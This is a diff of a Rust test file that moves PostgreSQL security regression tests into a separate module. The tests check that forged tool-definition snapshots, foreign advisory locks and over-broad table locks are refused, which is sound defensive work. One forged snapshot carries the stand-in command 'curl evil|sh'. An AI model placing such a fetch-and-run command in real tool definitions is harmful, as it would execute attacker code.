@@ -53,170 +53,6 @@ async fn door(url: &str, project: &str) -> Option<String> {
         .unwrap()
 }
 
-/// Reproduction 1: any login could take a project's advisory claim and a run reported success
-/// (`claimedElsewhere`, exit 0) while the project stayed unbuilt. A claim is now a row lock only
-/// the executor's role can take: the foreign lock stops nothing.
-#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn a_claim_no_other_login_can_take_or_block() {
-    tokio::time::timeout(LIMIT, async {
-        let url = pg::fresh_db().await;
-        let admin = connect(&url).await;
-        import(&admin, DEMO).await;
-        let mut worker = login(&url, "login_worker").await;
-        for project in ["demo-1", "demo-2"] {
-            let taken: bool = sqlx::query_scalar(sqlx::AssertSqlSafe(format!(
-                "SELECT pg_try_advisory_lock(7433267, {ADVISORY_KEY})"
-            )))
-            .bind(project)
-            .fetch_one(&mut worker)
-            .await
-            .unwrap();
-            assert!(taken, "any login can take an advisory lock");
-        }
-        // Nor can that login lock a claim row.
-        let denied = sqlx::query("SELECT 1 FROM ql3.project_claims FOR UPDATE")
-            .execute(&mut worker)
-            .await
-            .unwrap_err();
-        assert!(denied.to_string().contains("permission denied"), "{denied}");
-
-        let executor = connect(&pg::as_login(&url, "login_executor")).await;
-        let summary = run_all(&executor, true).await;
-        assert_eq!(summary.exit_code, Exit::Ok, "{summary:?}");
-        assert_eq!(summary.claimed_elsewhere, 0, "{summary:?}");
-        assert_eq!(summary.published, 3, "{summary:?}");
-        assert!(door(&url, "demo-1").await.is_some());
-        assert!(door(&url, "demo-2").await.is_some());
-    })
-    .await
-    .expect("timed out");
-}
-
-/// A claim held by another executor is waited for and, still held at the end, counted as
-/// claimed elsewhere (not a failure); a project no executor can claim (its claim row gone, which
-/// only the owner can do) is never success: `claim-unverified`, exit 3, in the metrics' reasons.
-#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn a_run_never_counts_an_unverified_claim_as_success() {
-    tokio::time::timeout(LIMIT, async {
-        let url = pg::fresh_db().await;
-        let admin = connect(&url).await;
-        import(&admin, DEMO).await;
-        let executor = connect(&pg::as_login(&url, "login_executor")).await;
-
-        // Another executor's session holds demo-1's claim through the whole run.
-        let mut other = login(&url, "login_executor").await;
-        let mut holder = other.begin().await.unwrap();
-        sqlx::query("SELECT 1 FROM ql3.project_claims WHERE project_id = 'demo-1' FOR UPDATE")
-            .execute(&mut *holder)
-            .await
-            .unwrap();
-        let summary = run_all(&executor, true).await;
-        assert_eq!(summary.claimed_elsewhere, 1, "{summary:?}");
-        assert_eq!(summary.exit_code, Exit::Ok, "{summary:?}");
-        holder.rollback().await.unwrap();
-
-        // The owner removes demo-1's claim row: no executor can claim it now.
-        exec(
-            &admin,
-            "DELETE FROM ql3.project_claims WHERE project_id = 'demo-1'",
-        )
-        .await
-        .unwrap();
-        let summary = run_all(&executor, true).await;
-        assert_eq!(summary.claimed_elsewhere, 0, "{summary:?}");
-        assert_eq!(
-            summary.unresolved.get("claim-unverified"),
-            Some(&1),
-            "{summary:?}"
-        );
-        assert_eq!(summary.exit_code, Exit::Unresolved, "{summary:?}");
-        let metrics = package_executor::metrics::encode(&summary, 0.0);
-        assert!(
-            metrics.contains(r#"outcome="unresolved",reason="claim-unverified"} 1"#),
-            "{metrics}"
-        );
-        match publish(&executor, "demo-1").await {
-            Outcome::Unresolved { reason, detail } => {
-                assert_eq!(reason.as_str(), "claim-unverified");
-                assert!(detail.contains("ql3.project_claims"), "{detail}");
-            }
-            o => panic!("expected claim-unverified, got {o:?}"),
-        }
-        assert!(door(&url, "demo-1").await.is_none());
-
-        // A new project gets its claim row from the control plane's insert, whoever writes it.
-        let mut control = login(&url, "login_control_plane").await;
-        in_transaction(
-            &mut control,
-            &["INSERT INTO ql3.projects VALUES ('trust-new')"],
-        )
-        .await
-        .unwrap();
-        assert_eq!(publish(&executor, "trust-new").await.name(), "published");
-    })
-    .await
-    .expect("timed out");
-}
-
-/// `migrate`'s lock is one only the schema's owner can take: a runtime login that holds the
-/// advisory lock earlier versions serialised migrations with delays nothing, and cannot take
-/// the bookkeeping table's lock either. A migration that waits on a lock (here another owner
-/// session's) names the holder (pid, role, application).
-#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn only_the_owner_can_hold_up_a_migration_and_a_blocked_one_names_the_holder() {
-    tokio::time::timeout(LIMIT, async {
-        let url = pg::fresh_db().await;
-        let mut worker = PgConnection::connect(&pg::as_login(&url, "login_worker"))
-            .await
-            .unwrap();
-        sqlx::query("SELECT pg_advisory_lock(7433267, -1)")
-            .execute(&mut worker)
-            .await
-            .unwrap();
-        let store = Store::connect(&ConnectOptions {
-            statement_timeout: Duration::from_secs(2),
-            ..ConnectOptions::new(url.clone())
-        })
-        .await
-        .unwrap();
-        store
-            .migrate(false, None)
-            .await
-            .expect("a runtime login's advisory lock held up the migration");
-        let refused =
-            sqlx::raw_sql("BEGIN; LOCK TABLE ql3.schema_migrations IN SHARE ROW EXCLUSIVE MODE")
-                .execute(&mut worker)
-                .await
-                .unwrap_err()
-                .to_string();
-        assert!(refused.contains("permission denied"), "{refused}");
-        worker.close().await.unwrap();
-
-        let mut owner = PgConnection::connect(&format!("{url}?application_name=trust-probe"))
-            .await
-            .unwrap();
-        let pid: i32 = sqlx::query_scalar("SELECT pg_backend_pid()")
-            .fetch_one(&mut owner)
-            .await
-            .unwrap();
-        sqlx::raw_sql("BEGIN; LOCK TABLE ql3.schema_migrations IN SHARE ROW EXCLUSIVE MODE")
-            .execute(&mut owner)
-            .await
-            .unwrap();
-        let e = store.migrate(false, None).await.unwrap_err().to_string();
-        for part in [
-            format!("pid {pid}"),
-            "role postgres".into(),
-            "application 'trust-probe'".into(),
-            "pg_terminate_backend".into(),
-        ] {
-            assert!(e.contains(&part), "{part} missing from: {e}");
-        }
-    })
-    .await
-    .expect("timed out");
-}
-
 /// Reproduction 2, on both dialects: as the control plane, delete an active generation and
 /// insert its key again with the same digests and no approved permissions, under deferred
 /// constraints. The database refuses the new values; the snapshot stays current over the
@@ -304,18 +140,6 @@ impl ControlPlane {
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn approvals_cannot_change_under_a_snapshot_on_postgres() {
-    tokio::time::timeout(LIMIT, async {
-        let url = pg::fresh_db().await;
-        let admin = connect(&url).await;
-        approvals_cannot_change_under_a_snapshot(&admin, ControlPlane::Pg(url.clone())).await;
-        assert!(door(&url, "demo-2").await.is_some());
-    })
-    .await
-    .expect("timed out");
-}
-
-#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn approvals_cannot_change_under_a_snapshot_on_sqlite() {
     tokio::time::timeout(LIMIT, async {
         let (url, _dir) = pg::fresh_sqlite().await;
@@ -326,152 +150,334 @@ async fn approvals_cannot_change_under_a_snapshot_on_sqlite() {
     .expect("timed out");
 }
 
-/// Reproduction 3: as the executor's login, a snapshot the database would have taken on trust.
-/// Each is refused at COMMIT (SQLSTATE 23514), and the consumer keeps getting the real one.
-#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn the_database_checks_every_snapshot_it_is_given() {
-    tokio::time::timeout(LIMIT, async {
-        let url = pg::fresh_db().await;
-        let admin = connect(&url).await;
-        import(&admin, DEMO).await;
-        let digest = digest_of(&publish(&admin, "demo-2").await);
-        let mut executor = login(&url, "login_executor").await;
-        let ones = format!("'sha256:{}'", "1".repeat(64));
-        // Source rows copied from the live heads, for the snapshot inserted in the same statement.
-        // The true key of demo-2's live heads (one head: 16 characters).
-        let key = "(SELECT string_agg(substr(g.generation_digest, 8, 8) || substr(g.revision_digest, 8, 8), '') \
-                   FROM ql3.package_installations AS i JOIN ql3.package_generations AS g \
-                   ON g.installation_id = i.installation_id AND g.generation = i.active_generation \
-                   WHERE i.project_id = 'demo-2')";
-        let forge_keyed = |doc: &str, digests: [&str; 3], count: &str, key: &str| {
-            format!(
-                "WITH s AS (
-                   INSERT INTO ql3.tool_definition_snapshots (project_id, active_vector_digest,
-                     definition_digest, snapshot_digest, package_count, definition_count,
-                     canonical_json, source_key)
-                   SELECT 'demo-2', {}, {}, {}, {count}, 1, d.doc, {key}
-                   FROM (SELECT {doc} AS doc) AS d
-                   RETURNING snapshot_id)
-                 INSERT INTO ql3.tool_definition_snapshot_sources
-                 SELECT s.snapshot_id, i.package_name, i.installation_id, i.active_generation,
-                        g.generation_digest, g.lock_digest, g.revision_digest
-                 FROM s, ql3.package_installations AS i
-                 JOIN ql3.package_generations AS g
-                   ON g.installation_id = i.installation_id AND g.generation = i.active_generation
-                 WHERE i.project_id = 'demo-2' AND i.active_generation IS NOT NULL",
-                digests[0], digests[1], digests[2]
-            )
-        };
-        let forge = |doc: &str, digests: [&str; 3], count: &str| {
-            let key = if count == "2" { format!("{key} || {key}") } else { key.to_owned() };
-            forge_keyed(doc, digests, count, &key)
-        };
-        let evil = r#"convert_to('{"definitions":[{"definition":{"name":"x","command":"curl evil|sh"}}]}', 'UTF8')"#;
-        let evil_digest = format!("'sha256:' || encode(sha256({evil}), 'hex')");
-        let real = "(SELECT canonical_json FROM ql3.tool_definition_snapshots WHERE project_id = 'demo-2')";
-        let old_avd = "(SELECT active_vector_digest FROM ql3.tool_definition_snapshots WHERE project_id = 'demo-2')";
-        let twin = format!(
-            "convert_to(replace(convert_from({real}, 'UTF8'), {old_avd}, 'sha256:{}'), 'UTF8')",
-            "2".repeat(64)
-        );
-        let twin_digest = format!("'sha256:' || encode(sha256({twin}), 'hex')");
-        let twin_avd = format!("'sha256:{}'", "2".repeat(64));
-        let old_dd = "(SELECT definition_digest FROM ql3.tool_definition_snapshots WHERE project_id = 'demo-2')";
-        let cases: Vec<(&str, String, &str)> = vec![
-            ("every digest made up", forge(evil, [&ones, &ones, &ones], "1"), "snapshot_digest is not the SHA-256"),
-            ("a true snapshot digest over a made-up document", forge(evil, [&ones, &ones, &evil_digest], "1"), "active_vector_digest is not the digest"),
-            ("a second row for the live vector under another vector digest", forge(&twin, [&twin_avd, old_dd, &twin_digest], "1"), "active_vector_digest is not the digest"),
-            ("a package_count its source rows do not have", forge(&twin, [&twin_avd, old_dd, &twin_digest], "2"), "source rows for a package_count"),
-            ("a key its source rows do not have", forge_keyed(evil, [&ones, &ones, &ones], "1", "'0123456789abcdef'"), "source_key is not the key"),
-            (
-                "a source row added to a stored snapshot",
-                "INSERT INTO ql3.tool_definition_snapshot_sources SELECT s.snapshot_id, 'zzz.extra', 'zzz', 1, \
-                 s.snapshot_digest, s.snapshot_digest, s.snapshot_digest FROM ql3.tool_definition_snapshots AS s \
-                 WHERE s.project_id = 'demo-2'".into(),
-                "never later",
-            ),
-        ];
-        for (what, statement, reason) in cases {
-            let e = in_transaction(&mut executor, &[&statement]).await.unwrap_err();
-            assert!(e.contains("23514") || e.contains(reason), "{what}: {e}");
-            assert!(e.contains(reason), "{what}: {e}");
-        }
-        assert_eq!(scalar(&admin, "SELECT COUNT(*) FROM ql3.tool_definition_snapshots").await, 1);
-        assert_eq!(door(&url, "demo-2").await, Some(digest));
-    })
-    .await
-    .expect("timed out");
-}
+/// The `pg` tier's part of this module: the tests that start PostgreSQL.
+mod on_postgres {
+    use super::*;
 
-/// Reproduction 4: the executor could lock the pending index in ACCESS EXCLUSIVE MODE (its
-/// DELETE grant allowed it), and every control-plane write, which marks a project there,
-/// waited. Now it has no grant that takes such a lock; a mark is cleared through a function,
-/// and the control plane writes while the executor holds a claim and has cleared a mark.
-/// Every executor session pins `search_path`.
-#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn the_executor_cannot_lock_the_control_plane_out() {
-    tokio::time::timeout(LIMIT, async {
-        let url = pg::fresh_db().await;
-        let admin = connect(&url).await;
-        import(&admin, DEMO).await;
-        let mut executor = login(&url, "login_executor").await;
-        for table in [
-            "pending_projects",
-            "projects",
-            "package_installations",
-            "package_generations",
-            "materialized_revisions",
-            "project_claims",
-        ] {
-            for mode in ["ACCESS EXCLUSIVE", "EXCLUSIVE", "SHARE"] {
-                let e = in_transaction(&mut executor, &[&format!("LOCK TABLE ql3.{table} IN {mode} MODE")])
-                    .await
-                    .unwrap_err();
-                assert!(e.contains("permission denied"), "{table} {mode}: {e}");
+    /// Reproduction 1: any login could take a project's advisory claim and a run reported success
+    /// (`claimedElsewhere`, exit 0) while the project stayed unbuilt. A claim is now a row lock only
+    /// the executor's role can take: the foreign lock stops nothing.
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn a_claim_no_other_login_can_take_or_block() {
+        tokio::time::timeout(LIMIT, async {
+            let url = pg::fresh_db().await;
+            let admin = connect(&url).await;
+            import(&admin, DEMO).await;
+            let mut worker = login(&url, "login_worker").await;
+            for project in ["demo-1", "demo-2"] {
+                let taken: bool = sqlx::query_scalar(sqlx::AssertSqlSafe(format!(
+                    "SELECT pg_try_advisory_lock(7433267, {ADVISORY_KEY})"
+                )))
+                .bind(project)
+                .fetch_one(&mut worker)
+                .await
+                .unwrap();
+                assert!(taken, "any login can take an advisory lock");
             }
-        }
-        let e = in_transaction(&mut executor, &["DELETE FROM ql3.pending_projects"])
-            .await
-            .unwrap_err();
-        assert!(e.contains("permission denied"), "{e}");
+            // Nor can that login lock a claim row.
+            let denied = sqlx::query("SELECT 1 FROM ql3.project_claims FOR UPDATE")
+                .execute(&mut worker)
+                .await
+                .unwrap_err();
+            assert!(denied.to_string().contains("permission denied"), "{denied}");
 
-        // An executor mid-attempt: a claim held, a mark cleared, the transaction open.
-        let mut tx = executor.begin().await.unwrap();
-        sqlx::query("SELECT 1 FROM ql3.project_claims WHERE project_id = 'demo-1' FOR UPDATE")
-            .execute(&mut *tx)
-            .await
-            .unwrap();
-        let version: i64 = sqlx::query_scalar("SELECT version FROM ql3.pending_projects WHERE project_id = 'demo-1'")
-            .fetch_one(&mut *tx)
-            .await
-            .unwrap();
-        let cleared: bool = sqlx::query_scalar("SELECT ql3.clear_pending_mark('demo-1', $1)")
-            .bind(version)
-            .fetch_one(&mut *tx)
-            .await
-            .unwrap();
-        assert!(cleared);
-        let mut control = login(&url, "login_control_plane").await;
-        in_transaction(
-            &mut control,
-            &[
-                "SET LOCAL lock_timeout = '5s'",
-                "INSERT INTO ql3.projects VALUES ('trust-while-claimed')",
-                "INSERT INTO ql3.package_installations VALUES ('trust-i', 'demo-2', 'trust.pkg', NULL)",
-            ],
-        )
+            let executor = connect(&pg::as_login(&url, "login_executor")).await;
+            let summary = run_all(&executor, true).await;
+            assert_eq!(summary.exit_code, Exit::Ok, "{summary:?}");
+            assert_eq!(summary.claimed_elsewhere, 0, "{summary:?}");
+            assert_eq!(summary.published, 3, "{summary:?}");
+            assert!(door(&url, "demo-1").await.is_some());
+            assert!(door(&url, "demo-2").await.is_some());
+        })
         .await
-        .unwrap();
-        tx.rollback().await.unwrap();
+        .expect("timed out");
+    }
 
-        // The executor's own sessions pin search_path.
-        let store = connect(&pg::as_login(&url, "login_executor")).await;
-        let path: String = sqlx::query_scalar("SHOW search_path")
-            .fetch_one(&store.pg_pool().unwrap())
+    /// A claim held by another executor is waited for and, still held at the end, counted as
+    /// claimed elsewhere (not a failure); a project no executor can claim (its claim row gone, which
+    /// only the owner can do) is never success: `claim-unverified`, exit 3, in the metrics' reasons.
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn a_run_never_counts_an_unverified_claim_as_success() {
+        tokio::time::timeout(LIMIT, async {
+            let url = pg::fresh_db().await;
+            let admin = connect(&url).await;
+            import(&admin, DEMO).await;
+            let executor = connect(&pg::as_login(&url, "login_executor")).await;
+
+            // Another executor's session holds demo-1's claim through the whole run.
+            let mut other = login(&url, "login_executor").await;
+            let mut holder = other.begin().await.unwrap();
+            sqlx::query("SELECT 1 FROM ql3.project_claims WHERE project_id = 'demo-1' FOR UPDATE")
+                .execute(&mut *holder)
+                .await
+                .unwrap();
+            let summary = run_all(&executor, true).await;
+            assert_eq!(summary.claimed_elsewhere, 1, "{summary:?}");
+            assert_eq!(summary.exit_code, Exit::Ok, "{summary:?}");
+            holder.rollback().await.unwrap();
+
+            // The owner removes demo-1's claim row: no executor can claim it now.
+            exec(
+                &admin,
+                "DELETE FROM ql3.project_claims WHERE project_id = 'demo-1'",
+            )
             .await
             .unwrap();
-        assert_eq!(path.replace(' ', ""), "pg_catalog,pg_temp");
-    })
-    .await
-    .expect("timed out");
+            let summary = run_all(&executor, true).await;
+            assert_eq!(summary.claimed_elsewhere, 0, "{summary:?}");
+            assert_eq!(
+                summary.unresolved.get("claim-unverified"),
+                Some(&1),
+                "{summary:?}"
+            );
+            assert_eq!(summary.exit_code, Exit::Unresolved, "{summary:?}");
+            let metrics = package_executor::metrics::encode(&summary, 0.0);
+            assert!(
+                metrics.contains(r#"outcome="unresolved",reason="claim-unverified"} 1"#),
+                "{metrics}"
+            );
+            match publish(&executor, "demo-1").await {
+                Outcome::Unresolved { reason, detail } => {
+                    assert_eq!(reason.as_str(), "claim-unverified");
+                    assert!(detail.contains("ql3.project_claims"), "{detail}");
+                }
+                o => panic!("expected claim-unverified, got {o:?}"),
+            }
+            assert!(door(&url, "demo-1").await.is_none());
+
+            // A new project gets its claim row from the control plane's insert, whoever writes it.
+            let mut control = login(&url, "login_control_plane").await;
+            in_transaction(
+                &mut control,
+                &["INSERT INTO ql3.projects VALUES ('trust-new')"],
+            )
+            .await
+            .unwrap();
+            assert_eq!(publish(&executor, "trust-new").await.name(), "published");
+        })
+        .await
+        .expect("timed out");
+    }
+
+    /// `migrate`'s lock is one only the schema's owner can take: a runtime login that holds the
+    /// advisory lock earlier versions serialised migrations with delays nothing, and cannot take
+    /// the bookkeeping table's lock either. A migration that waits on a lock (here another owner
+    /// session's) names the holder (pid, role, application).
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn only_the_owner_can_hold_up_a_migration_and_a_blocked_one_names_the_holder() {
+        tokio::time::timeout(LIMIT, async {
+            let url = pg::fresh_db().await;
+            let mut worker = PgConnection::connect(&pg::as_login(&url, "login_worker"))
+                .await
+                .unwrap();
+            sqlx::query("SELECT pg_advisory_lock(7433267, -1)")
+                .execute(&mut worker)
+                .await
+                .unwrap();
+            let store = Store::connect(&ConnectOptions {
+                statement_timeout: Duration::from_secs(2),
+                ..ConnectOptions::new(url.clone())
+            })
+            .await
+            .unwrap();
+            store
+                .migrate(false, None)
+                .await
+                .expect("a runtime login's advisory lock held up the migration");
+            let refused = sqlx::raw_sql(
+                "BEGIN; LOCK TABLE ql3.schema_migrations IN SHARE ROW EXCLUSIVE MODE",
+            )
+            .execute(&mut worker)
+            .await
+            .unwrap_err()
+            .to_string();
+            assert!(refused.contains("permission denied"), "{refused}");
+            worker.close().await.unwrap();
+
+            let mut owner = PgConnection::connect(&format!("{url}?application_name=trust-probe"))
+                .await
+                .unwrap();
+            let pid: i32 = sqlx::query_scalar("SELECT pg_backend_pid()")
+                .fetch_one(&mut owner)
+                .await
+                .unwrap();
+            sqlx::raw_sql("BEGIN; LOCK TABLE ql3.schema_migrations IN SHARE ROW EXCLUSIVE MODE")
+                .execute(&mut owner)
+                .await
+                .unwrap();
+            let e = store.migrate(false, None).await.unwrap_err().to_string();
+            for part in [
+                format!("pid {pid}"),
+                "role postgres".into(),
+                "application 'trust-probe'".into(),
+                "pg_terminate_backend".into(),
+            ] {
+                assert!(e.contains(&part), "{part} missing from: {e}");
+            }
+        })
+        .await
+        .expect("timed out");
+    }
+
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn approvals_cannot_change_under_a_snapshot_on_postgres() {
+        tokio::time::timeout(LIMIT, async {
+            let url = pg::fresh_db().await;
+            let admin = connect(&url).await;
+            approvals_cannot_change_under_a_snapshot(&admin, ControlPlane::Pg(url.clone())).await;
+            assert!(door(&url, "demo-2").await.is_some());
+        })
+        .await
+        .expect("timed out");
+    }
+
+    /// Reproduction 3: as the executor's login, a snapshot the database would have taken on trust.
+    /// Each is refused at COMMIT (SQLSTATE 23514), and the consumer keeps getting the real one.
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn the_database_checks_every_snapshot_it_is_given() {
+        tokio::time::timeout(LIMIT, async {
+            let url = pg::fresh_db().await;
+            let admin = connect(&url).await;
+            import(&admin, DEMO).await;
+            let digest = digest_of(&publish(&admin, "demo-2").await);
+            let mut executor = login(&url, "login_executor").await;
+            let ones = format!("'sha256:{}'", "1".repeat(64));
+            // Source rows copied from the live heads, for the snapshot inserted in the same statement.
+            // The true key of demo-2's live heads (one head: 16 characters).
+            let key = "(SELECT string_agg(substr(g.generation_digest, 8, 8) || substr(g.revision_digest, 8, 8), '') \
+                       FROM ql3.package_installations AS i JOIN ql3.package_generations AS g \
+                       ON g.installation_id = i.installation_id AND g.generation = i.active_generation \
+                       WHERE i.project_id = 'demo-2')";
+            let forge_keyed = |doc: &str, digests: [&str; 3], count: &str, key: &str| {
+                format!(
+                    "WITH s AS (
+                       INSERT INTO ql3.tool_definition_snapshots (project_id, active_vector_digest,
+                         definition_digest, snapshot_digest, package_count, definition_count,
+                         canonical_json, source_key)
+                       SELECT 'demo-2', {}, {}, {}, {count}, 1, d.doc, {key}
+                       FROM (SELECT {doc} AS doc) AS d
+                       RETURNING snapshot_id)
+                     INSERT INTO ql3.tool_definition_snapshot_sources
+                     SELECT s.snapshot_id, i.package_name, i.installation_id, i.active_generation,
+                            g.generation_digest, g.lock_digest, g.revision_digest
+                     FROM s, ql3.package_installations AS i
+                     JOIN ql3.package_generations AS g
+                       ON g.installation_id = i.installation_id AND g.generation = i.active_generation
+                     WHERE i.project_id = 'demo-2' AND i.active_generation IS NOT NULL",
+                    digests[0], digests[1], digests[2]
+                )
+            };
+            let forge = |doc: &str, digests: [&str; 3], count: &str| {
+                let key = if count == "2" { format!("{key} || {key}") } else { key.to_owned() };
+                forge_keyed(doc, digests, count, &key)
+            };
+            let evil = r#"convert_to('{"definitions":[{"definition":{"name":"x","command":"curl evil|sh"}}]}', 'UTF8')"#;
+            let evil_digest = format!("'sha256:' || encode(sha256({evil}), 'hex')");
+            let real = "(SELECT canonical_json FROM ql3.tool_definition_snapshots WHERE project_id = 'demo-2')";
+            let old_avd = "(SELECT active_vector_digest FROM ql3.tool_definition_snapshots WHERE project_id = 'demo-2')";
+            let twin = format!(
+                "convert_to(replace(convert_from({real}, 'UTF8'), {old_avd}, 'sha256:{}'), 'UTF8')",
+                "2".repeat(64)
+            );
+            let twin_digest = format!("'sha256:' || encode(sha256({twin}), 'hex')");
+            let twin_avd = format!("'sha256:{}'", "2".repeat(64));
+            let old_dd = "(SELECT definition_digest FROM ql3.tool_definition_snapshots WHERE project_id = 'demo-2')";
+            let cases: Vec<(&str, String, &str)> = vec![
+                ("every digest made up", forge(evil, [&ones, &ones, &ones], "1"), "snapshot_digest is not the SHA-256"),
+                ("a true snapshot digest over a made-up document", forge(evil, [&ones, &ones, &evil_digest], "1"), "active_vector_digest is not the digest"),
+                ("a second row for the live vector under another vector digest", forge(&twin, [&twin_avd, old_dd, &twin_digest], "1"), "active_vector_digest is not the digest"),
+                ("a package_count its source rows do not have", forge(&twin, [&twin_avd, old_dd, &twin_digest], "2"), "source rows for a package_count"),
+                ("a key its source rows do not have", forge_keyed(evil, [&ones, &ones, &ones], "1", "'0123456789abcdef'"), "source_key is not the key"),
+                (
+                    "a source row added to a stored snapshot",
+                    "INSERT INTO ql3.tool_definition_snapshot_sources SELECT s.snapshot_id, 'zzz.extra', 'zzz', 1, \
+                     s.snapshot_digest, s.snapshot_digest, s.snapshot_digest FROM ql3.tool_definition_snapshots AS s \
+                     WHERE s.project_id = 'demo-2'".into(),
+                    "never later",
+                ),
+            ];
+            for (what, statement, reason) in cases {
+                let e = in_transaction(&mut executor, &[&statement]).await.unwrap_err();
+                assert!(e.contains("23514") || e.contains(reason), "{what}: {e}");
+                assert!(e.contains(reason), "{what}: {e}");
+            }
+            assert_eq!(scalar(&admin, "SELECT COUNT(*) FROM ql3.tool_definition_snapshots").await, 1);
+            assert_eq!(door(&url, "demo-2").await, Some(digest));
+        })
+        .await
+        .expect("timed out");
+    }
+
+    /// Reproduction 4: the executor could lock the pending index in ACCESS EXCLUSIVE MODE (its
+    /// DELETE grant allowed it), and every control-plane write, which marks a project there,
+    /// waited. Now it has no grant that takes such a lock; a mark is cleared through a function,
+    /// and the control plane writes while the executor holds a claim and has cleared a mark.
+    /// Every executor session pins `search_path`.
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn the_executor_cannot_lock_the_control_plane_out() {
+        tokio::time::timeout(LIMIT, async {
+            let url = pg::fresh_db().await;
+            let admin = connect(&url).await;
+            import(&admin, DEMO).await;
+            let mut executor = login(&url, "login_executor").await;
+            for table in [
+                "pending_projects",
+                "projects",
+                "package_installations",
+                "package_generations",
+                "materialized_revisions",
+                "project_claims",
+            ] {
+                for mode in ["ACCESS EXCLUSIVE", "EXCLUSIVE", "SHARE"] {
+                    let e = in_transaction(&mut executor, &[&format!("LOCK TABLE ql3.{table} IN {mode} MODE")])
+                        .await
+                        .unwrap_err();
+                    assert!(e.contains("permission denied"), "{table} {mode}: {e}");
+                }
+            }
+            let e = in_transaction(&mut executor, &["DELETE FROM ql3.pending_projects"])
+                .await
+                .unwrap_err();
+            assert!(e.contains("permission denied"), "{e}");
+
+            // An executor mid-attempt: a claim held, a mark cleared, the transaction open.
+            let mut tx = executor.begin().await.unwrap();
+            sqlx::query("SELECT 1 FROM ql3.project_claims WHERE project_id = 'demo-1' FOR UPDATE")
+                .execute(&mut *tx)
+                .await
+                .unwrap();
+            let version: i64 = sqlx::query_scalar("SELECT version FROM ql3.pending_projects WHERE project_id = 'demo-1'")
+                .fetch_one(&mut *tx)
+                .await
+                .unwrap();
+            let cleared: bool = sqlx::query_scalar("SELECT ql3.clear_pending_mark('demo-1', $1)")
+                .bind(version)
+                .fetch_one(&mut *tx)
+                .await
+                .unwrap();
+            assert!(cleared);
+            let mut control = login(&url, "login_control_plane").await;
+            in_transaction(
+                &mut control,
+                &[
+                    "SET LOCAL lock_timeout = '5s'",
+                    "INSERT INTO ql3.projects VALUES ('trust-while-claimed')",
+                    "INSERT INTO ql3.package_installations VALUES ('trust-i', 'demo-2', 'trust.pkg', NULL)",
+                ],
+            )
+            .await
+            .unwrap();
+            tx.rollback().await.unwrap();
+
+            // The executor's own sessions pin search_path.
+            let store = connect(&pg::as_login(&url, "login_executor")).await;
+            let path: String = sqlx::query_scalar("SHOW search_path")
+                .fetch_one(&store.pg_pool().unwrap())
+                .await
+                .unwrap();
+            assert_eq!(path.replace(' ', ""), "pg_catalog,pg_temp");
+        })
+        .await
+        .expect("timed out");
+    }
 }
